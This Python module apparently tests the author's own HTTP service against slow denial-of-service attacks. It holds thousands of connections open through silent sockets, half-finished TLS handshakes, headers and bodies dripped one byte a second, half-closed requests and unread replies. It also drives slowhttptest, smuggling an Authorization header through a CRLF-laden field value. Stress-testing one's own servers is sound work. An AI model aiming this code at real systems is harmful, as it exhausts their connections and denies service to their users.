"""The attacks that hold connections: silent, dripping, half-closed and never-reading ones, by thousands.

Each connection that the other side ends is made anew, so that as many are held the whole time as can be. Each attack
returns what it counted: `opened` connections, the most that were `held` at a time, those that were `refused`, and the
`bytes` that were sent over them."""

import csv
import itertools
import queue
import resource
import select
import socket
import ssl
import subprocess
import tempfile
import threading
import time
from collections import Counter
from dataclasses import dataclass

from common.ports import HOST

# How many connections are made at a time, and the longest that making one may take.
OPENERS, OPENING = 8, 20

# A reply that is longer than what the kernel holds of it for a client with so small a room.
ROOM = 2048


@dataclass
class Target:
    """What is attacked: a port, over TLS or not, the tokens of those who attack, how many at a time, and how long."""

    port: int
    is_tls: bool
    tokens: list
    size: int
    seconds: float
    number: int = 1
    path: str = "/v1/report"

    def context(self):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        return context

    def plain(self, room=None, address=None):
        """A new connection, of an address or of any."""
        made = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            if address:
                made.bind((address, 0))
            if room:
                made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, room)
            made.settimeout(OPENING)
            made.connect((HOST, self.port))
        except OSError:
            made.close()
            raise
        return made

    def opened(self, room=None, context=None):
        """A new connection over which a request may be sent."""
        made = self.plain(room)
        if not self.is_tls:
            return made
        try:
            return (context or self.context()).wrap_socket(made)
        except OSError:
            made.close()
            raise

    def head(self, method="GET", path=None, *fields):
        """A request's head without the empty line at its end."""
        lines = [f"{method} {path or self.path} HTTP/1.1", f"Host: {HOST}", f"Authorization: Bearer {self.tokens[0]}"]
        return ("\r\n".join([*lines, *fields]) + "\r\n").encode()


def more_files():
    """Room for many connections in this process."""
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))


class Crowd:
    """So many connections that are held open, each with some first bytes, and one more byte each second."""

    def __init__(self, target, opened, drip=b""):
        self.target, self.opened, self.drip = target, opened, drip
        self.counts, self.most = Counter(), 0
        self.held, self.turn, self.is_over = {}, threading.Lock(), threading.Event()
        self.wanted, self.poll = queue.Queue(), select.epoll()

    def open_some(self):
        """Makes connections as they are wanted."""
        while not self.is_over.is_set():
            try:
                self.wanted.get(timeout=0.1)
            except queue.Empty:
                continue
            try:
                made, sent = self.opened()
            except OSError:
                self.counts["refused"] += 1
                self.wanted.put(None)
                time.sleep(0.05)
                continue
            with self.turn:
                self.counts["opened"] += 1
                self.counts["bytes"] += sent
                self.held[made.fileno()] = made
                self.most = max(self.most, len(self.held))
                self.poll.register(made.fileno(), select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR)

    def drop(self, number):
        """Forgets a connection that has ended, and wants another one."""
        with self.turn:
            made = self.held.pop(number, None)
            if made:
                self.poll.unregister(number)
                made.close()
                self.counts["ended"] += 1
                self.wanted.put(None)

    def send_more(self):
        """One byte more over each."""
        with self.turn:
            held = list(self.held.items())
        for number, made in held:
            try:
                made.settimeout(0.5)
                made.send(self.drip)
                self.counts["bytes"] += len(self.drip)
            except (OSError, ValueError):
                self.drop(number)

    def run(self):
        more_files()
        for _ in range(self.target.size):
            self.wanted.put(None)
        openers = [threading.Thread(target=self.open_some, daemon=True) for _ in range(OPENERS)]
        for opener in openers:
            opener.start()
        end, dripped = time.monotonic() + self.target.seconds, time.monotonic()
        while time.monotonic() < end:
            for number, _ in self.poll.poll(0.1):
                self.drop(number)
            if self.drip and time.monotonic() - dripped > 1:
                dripped = time.monotonic()
                self.send_more()
        self.is_over.set()
        return dict(self.counts) | {"held": self.most}


# What each connection begins with.


def silent(target):
    """Connections that say nothing, not even TLS's first word."""
    return Crowd(target, lambda: (target.plain(), 0)).run()


def half_shaken(target):
    """Connections that stop behind the first byte of TLS, of all addresses of a /24. Where nginx needs room it closes
    silent ones early, and none of these."""
    numbers = itertools.count()

    def opened():
        made = target.plain(address=f"127.0.1.{1 + next(numbers) % 254}")
        made.sendall(b"\x16")
        return made, 1

    return Crowd(target, opened).run()


def sent_first(target, data, room=None, is_half=False):
    """How a connection is made that begins with some bytes, and is then shut in this direction or not."""
    context = target.context() if target.is_tls else None

    def opened():
        made = target.opened(room, context)
        try:
            made.sendall(data)
            if is_half:
                made.shutdown(socket.SHUT_WR)
        except OSError:
            made.close()
            raise
        return made, len(data)

    return opened


def shaken(target):
    """Connections that have TLS, and say nothing then."""
    return Crowd(target, sent_first(target, b"")).run()


def kept(target):
    """Connections over which one request was sent, which are kept then."""
    return Crowd(target, sent_first(target, target.head(path="/v1/order?name=x") + b"\r\n")).run()


def heads(target):
    """Heads that never end: a byte each second."""
    return Crowd(target, sent_first(target, target.head() + b"X-More: "), drip=b"x").run()


def bodies(target):
    """Bodies that never end: a byte each second."""
    head = target.head("POST", "/v1/import", "Content-Type: application/json", "Content-Length: 60000")
    return Crowd(target, sent_first(target, head + b'\r\n{"nr":'), drip=b" ").run()


def half_closed(target):
    """Halves of a request, behind which the sender says that no more comes."""
    return Crowd(target, sent_first(target, target.head(), is_half=True)).run()


def half_closed_whole(target):
    """Whole requests of a report, behind which the sender says that no more comes."""
    return Crowd(target, sent_first(target, target.head() + b"\r\n", is_half=True)).run()


def never_read(target):
    """Requests of a long reply that nobody reads."""
    return Crowd(target, sent_first(target, target.head(path="/v1/devices?after=") + b"\r\n", room=ROOM)).run()


# Debian's slowhttptest, a tool that isn't ours.

SLOW = {
    "slow heads": ["-H", "-i", "1", "-x", "8"],
    "slow bodies": ["-B", "-i", "1", "-s", "60000", "-x", "8", "-t", "POST"],
    "slow reads": ["-X", "-w", "64", "-y", "128", "-n", "5", "-z", "8", "-k", "1"],
}


def slowhttptest(kind):
    """An attack of slowhttptest with a seat's token, which stands behind the value of a field that it lets one set. It
    makes no connection anew, so it is started anew where all have ended."""

    def run(target):
        more_files()
        counts, end = Counter(), time.monotonic() + target.seconds
        with tempfile.TemporaryDirectory() as folder:
            while (left := end - time.monotonic()) > 1:
                done = subprocess.run(
                    slow_words(kind, target, int(left), folder), capture_output=True, text=True, timeout=left + 30
                )
                held, closed = slow_counts(f"{folder}/slow.csv")
                counts["held"] = max(counts["held"], held)
                counts["opened"] += max(held, closed)
                counts["runs"] += 1
                if done.returncode:
                    counts["failed"] += 1
                    time.sleep(0.5)
        return dict(counts)

    return run


def slow_words(kind, target, seconds, folder):
    """The command, which writes how many connections it has each second."""
    path = {"slow heads": target.path, "slow bodies": "/v1/import", "slow reads": "/v1/devices?after="}[kind]
    url = f"{'https' if target.is_tls else 'http'}://{HOST}:{target.port}{path}"
    words = ["slowhttptest", *SLOW[kind], "-c", str(target.size), "-r", str(target.size), "-p", "10"]
    words += ["-l", str(seconds), "-u", url, "-g", "-o", f"{folder}/slow"]
    field = f"text/plain\r\nAuthorization: Bearer {target.tokens[0]}"
    return words + (["-f", field] if kind == "slow bodies" else ["-m", field])


def slow_counts(path):
    """The most connections that slowhttptest had at a time, and how many ended, by its own table."""
    with open(path, newline="", encoding="ascii") as file:
        rows = [{name.strip(): text for name, text in row.items() if name} for row in csv.DictReader(file)]
    return tuple(max((int(row[name]) for row in rows), default=0) for name in ("Connected", "Closed"))
